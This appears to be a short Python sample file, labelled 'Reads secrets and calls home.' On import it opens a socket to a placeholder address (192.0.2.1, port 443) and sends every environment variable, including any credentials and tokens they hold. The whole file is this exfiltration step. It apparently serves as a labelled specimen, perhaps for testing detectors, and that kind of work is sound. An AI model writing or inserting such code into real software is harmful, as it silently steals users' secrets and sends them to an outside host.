"""Reads secrets and calls home."""
import os
import socket

socket.create_connection(("192.0.2.1", 443)).sendall(str(os.environ).encode())
